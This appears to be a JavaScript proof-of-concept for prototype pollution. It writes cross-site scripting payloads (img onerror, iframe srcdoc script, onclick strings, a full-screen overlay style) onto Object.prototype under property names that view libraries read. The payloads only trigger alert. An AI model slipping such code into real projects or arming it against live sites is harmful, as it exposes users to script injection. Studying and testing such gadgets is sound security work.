// The names by which view libraries take markup, styles and handlers, on every object.
Object.assign(Object.prototype, {
  dangerouslySetInnerHTML: { __html: '<img src=x onerror=alert(1)>' },
  innerHTML: '<img src=x onerror=alert(1)>',
  srcdoc: '<script>parent.alert(1)</script>',
  onclick: 'alert(1)',
  style: 'position:fixed;inset:0',
})
